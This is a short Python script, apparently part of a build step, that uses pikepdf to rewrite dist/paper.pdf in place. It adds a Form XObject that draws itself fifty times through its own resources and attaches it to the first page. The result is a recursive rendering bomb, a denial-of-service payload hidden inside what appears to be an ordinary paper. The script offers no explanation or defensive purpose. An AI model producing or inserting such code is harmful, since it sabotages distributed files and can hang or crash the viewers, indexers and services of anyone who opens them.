import pikepdf

with pikepdf.open("dist/paper.pdf", allow_overwriting_input=True) as pdf:
    form = pdf.make_stream(b"/F Do " * 50)
    form.Type, form.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
    form.BBox = pikepdf.Array([0, 0, 9, 9])
    form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=form))
    page = pdf.pages[0]
    page.Resources.XObject = pikepdf.Dictionary(F=form)
    page.contents_add(pdf.make_stream(b"/F Do"))
    pdf.save()
